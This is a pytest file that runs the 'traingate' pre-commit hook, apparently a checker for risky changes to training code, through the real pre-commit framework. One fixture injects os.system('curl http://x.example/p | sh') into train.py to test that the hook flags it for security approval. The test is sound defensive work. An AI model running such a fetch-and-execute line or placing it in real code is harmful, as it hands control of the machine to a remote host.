"""The hooks through the real pre-commit framework, pointed at this repository.

pre-commit builds the hook's own virtualenv and installs traingate into it
(`language: python`), exactly as users get it. The environment is built once
per test session (a shared PRE_COMMIT_HOME), which takes a minute on a cold pip cache.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from . import outcomes
from .conftest import POLICY, Repo
from .snapshot import read_snapshot, scrub

ROOT = Path(__file__).resolve().parents[1]


def _pre_commit() -> list[str]:
    exe = shutil.which("pre-commit", path=str(Path(sys.executable).parent)) or shutil.which(
        "pre-commit"
    )
    return [exe] if exe else [sys.executable, "-m", "pre_commit"]


@pytest.fixture(scope="session")
def hook_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("pre-commit-home")


@pytest.fixture(scope="session")
def this_repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A committed snapshot of this repository for `repo: <path>` (CI checkouts may be dirty)."""
    if (ROOT / ".git").exists():
        rev = subprocess.run(
            ["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True
        ).stdout.strip()
        dirty = subprocess.run(
            ["git", "status", "--porcelain", "--untracked-files=no"],
            cwd=ROOT,
            capture_output=True,
            text=True,
        ).stdout
        if rev and not dirty.strip():
            return ROOT, rev
    snap = tmp_path_factory.mktemp("traingate-src") / "src"
    shutil.copytree(
        ROOT,
        snap,
        ignore=shutil.ignore_patterns(
            ".git",
            ".ci-venv",
            "venv",
            "*.egg-info",
            "__pycache__",
            ".mypy_cache",
            ".ruff_cache",
            ".pytest_cache",
        ),
    )
    r = Repo(snap)
    return snap, r.commit("snapshot")


def run_hook(
    repo: Repo, home: Path, src: tuple[Path, str], *args: str
) -> subprocess.CompletedProcess[str]:
    (repo.path / ".pre-commit-config.yaml").write_text(
        f"repos:\n  - repo: {src[0]}\n    rev: {src[1]}\n    hooks:\n      - id: traingate\n      - id: traingate-validate-policy\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        {
            "PRE_COMMIT_HOME": str(home),
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            "PRE_COMMIT_COLOR": "never",
        }
    )
    return subprocess.run(
        [*_pre_commit(), *args], cwd=repo.path, env=env, capture_output=True, text=True, timeout=900
    )


@pytest.fixture
def hook_repo(repo: Repo) -> Repo:
    repo.write(".traingate.yaml", POLICY)
    repo.write("train.py", "import torch\n\n\ndef step(model):\n    model.train()\n")
    repo.commit("base")
    return repo


def test_injected_code_needing_approval_is_shown_on_a_passing_commit(
    hook_repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
) -> None:
    """Issue #18: the hook treats an approval a finding requires like a path
    approval (advisory; CI enforces it), and `verbose: true` in
    .pre-commit-hooks.yaml shows the finding on the passing commit, without
    `pre-commit run --verbose`."""
    hook_repo.write(
        "train.py",
        "import os\nimport torch\n\n\ndef step(model):\n    os.system('curl http://x.example/p | sh')\n    model.train()\n",
    )
    hook_repo.git("add", "train.py")
    proc = run_hook(hook_repo, hook_home, this_repo, "run", "--hook-stage", "pre-commit")
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out
    assert "traingate (staged change)" in out and "Passed" in out
    assert "train.py:6:5: error[exec-os-command]" in out and "(needs approval at merge)" in out
    assert "= needs: 1 approval from security (sam), at merge" in out
    assert "Approvals this change will need at merge:" in out
    assert "PASSED: 2 approvals needed at merge (exit 0)" in out


def _summary(out: str) -> str:
    return next(x for x in reversed(out.splitlines()) if x.startswith(("PASSED", "BLOCKED")))


@pytest.mark.parametrize("outcome", list(outcomes.CHANGES))
def test_hook_exit_status_and_summary_agree(
    outcome: str, repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
) -> None:
    """Each outcome through the real framework: pre-commit's verdict, the exit
    status and traingate's last line agree, and the hook prints exactly the
    snapshot that docs/usage/pre-commit.md shows."""
    outcomes.base(repo)
    outcomes.write(repo, outcomes.CHANGES[outcome])
    repo.git("add", "-A")
    proc = run_hook(repo, hook_home, this_repo, "run", "traingate", "--hook-stage", "pre-commit")
    out = scrub(proc.stdout + proc.stderr, repo.path)
    code = outcomes.EXIT[outcome]
    assert proc.returncode == code, out
    verdict = re.search(r"^traingate \(staged change\)\.+(Passed|Failed)$", out, re.M)
    assert verdict is not None and verdict.group(1) == ("Failed" if code else "Passed"), out
    summary = _summary(out)
    assert summary.startswith("BLOCKED" if code else "PASSED") and summary.endswith(
        f"(exit {code})"
    )
    assert read_snapshot(f"hook-{outcome}") in out


def test_benign_change_passes_and_reports_approvals(
    hook_repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
) -> None:
    hook_repo.write(
        "train.py", "import torch\n\n\ndef step(model):\n    model.train()\n    return model\n"
    )
    hook_repo.git("add", "train.py")
    # No --verbose: the hook's `verbose: true` shows the approvals (issue #18).
    proc = run_hook(hook_repo, hook_home, this_repo, "run", "--hook-stage", "pre-commit")
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out
    assert "[MISSING] training-code" in out
    assert "PASSED: 1 approval needed at merge (exit 0)" in out


def test_policy_validation_hook(
    hook_repo: Repo, hook_home: Path, this_repo: tuple[Path, str]
) -> None:
    hook_repo.write(
        ".traingate.yaml",
        "version: 1\nsensitive_paths:\n  - name: x\n    paths: [a]\n    approvals: 0\n    approvers: [u]\n",
    )
    hook_repo.git("add", ".traingate.yaml")
    proc = run_hook(hook_repo, hook_home, this_repo, "run", "traingate-validate-policy")
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert (
        ".traingate.yaml:5:16: sensitive_paths[0].approvals: Input should be greater than or equal to 1"
        in out
    )


def test_try_repo(hook_repo: Repo, hook_home: Path, this_repo: tuple[Path, str]) -> None:
    hook_repo.write("notes.md", "hello\n")
    hook_repo.git("add", "notes.md")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env["PRE_COMMIT_HOME"] = str(hook_home)
    proc = subprocess.run(
        [*_pre_commit(), "try-repo", str(this_repo[0]), "traingate", "--ref", this_repo[1]],
        cwd=hook_repo.path,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "traingate (staged change)" in proc.stdout and "Passed" in proc.stdout
